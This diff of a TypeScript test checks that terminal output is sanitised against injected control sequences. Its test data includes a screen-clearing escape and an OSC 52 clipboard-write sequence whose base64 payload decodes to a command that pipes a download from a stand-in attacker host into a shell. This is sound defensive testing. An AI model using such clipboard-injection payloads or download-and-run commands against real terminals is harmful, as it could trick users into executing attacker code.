@@ -360,7 +360,7 @@ describe('a check result is made safe where the commands receive it', () => {
     for (const c of report.checks) expect(c.detail).not.toContain('\n');
     // Said once, as checks: not again on stderr by the live check.
     expect(t.stderr).not.toContain('NODE_TLS_REJECT_UNAUTHORIZED');
-    expect(strayVariableChecks({ OPENAI_ORG_ID: `org-1${ESC}[2J` })[0]!.detail).not.toMatch(DANGEROUS);
+    expect(strayVariableChecks({ OPENAI_ORG_ID: `org-1${ESC}[2J` }, 'linux')[0]!.detail).not.toMatch(DANGEROUS);
     // An error without a code is said by its text (the live check's words): one line, made safe.
     expect(reachabilityCheck('http://me:s3cret@h/v1', { reached: false, code: '', detail: `reset\n✔ forged${OSC52}` }).detail).toBe('Could not reach h: reset ✔ forged\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
   });
